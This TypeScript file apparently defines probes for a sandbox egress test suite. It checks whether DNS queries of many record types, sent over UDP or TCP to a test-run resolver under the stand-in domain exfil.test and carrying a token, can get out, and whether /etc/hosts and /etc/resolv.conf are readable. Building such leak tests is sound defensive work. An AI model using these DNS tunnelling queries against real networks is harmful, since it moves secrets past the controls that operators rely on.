/** Names as a way out, and the daemons that resolve them. */
import { both, type Need, type Probe, py } from '../probe.ts';

const CLASS = 'names';

function name(
  title: string,
  args: readonly string[],
  expect: RegExp,
  more: { needs?: readonly Need[]; ledger?: Record<string, string> } = {},
): Probe {
  return { name: title, class: CLASS, ...both(py('names', ...args)), expect, ...more };
}

const far = ['far'] as const;
const SERVER = '{farDns.address}';

function query(kind: string): Probe {
  const asked = `${kind.toLowerCase()}.{mark}.exfil.test`;
  return name(
    `${kind} query to a resolver of its own`,
    ['ask', SERVER, asked, kind, '{token}'],
    // ANY may be answered like A, from the pool; what counts is whose answer it is.
    kind === 'ANY' ? /^rcode 0, [01] answers$/ : /^rcode \d+, 0 answers$/,
    {
      needs: far,
      ledger: { type: 'dns', name: asked, qtype: kind },
    },
  );
}

/** Answers of the test's own name server. */
export const ZONE = {
  'leak.exfil.test': ['10.9.9.9'],
  'random.exfil.test': ['10.9.9.8'],
} as const;

export const NAMES: readonly Probe[] = [
  ...['TXT', 'NULL', 'PTR', 'SRV', 'MX', 'ANY', 'HTTPS'].map(query),
  name(
    'A query to a resolver of its own',
    ['ask', SERVER, 'random.exfil.test', 'A', '10.9.9.8'],
    /^rcode 0, 1 answers$/,
    {
      needs: far,
      ledger: { type: 'dns', name: 'random.exfil.test', qtype: 'A', answer: '~^198\\.1[89]\\.' },
    },
  ),
  name(
    'TXT query over TCP',
    ['ask_tcp', SERVER, 'tcp.{mark}.exfil.test', 'TXT', '{token}'],
    /^rcode 0, 0 answers$/,
    {
      needs: far,
      ledger: { type: 'dns', name: 'tcp.{mark}.exfil.test', qtype: 'TXT' },
    },
  ),
  name('lookup by the C library', ['lookup', 'leak.exfil.test', '10.9.9.9'], /^answered 198\.1[89]\./, {
    needs: far,
    ledger: { type: 'dns', name: 'leak.exfil.test', qtype: 'A' },
  }),
  name(
    'the hosts file of the machine',
    ['hosts', '/etc/hosts', 'host-names-of-the-machine'],
    /^other content$/,
    {
      needs: far,
    },
  ),
  name('the resolv.conf of the machine', ['hosts', '/etc/resolv.conf', SERVER], /^other content$/, {
    needs: far,
  }),
];
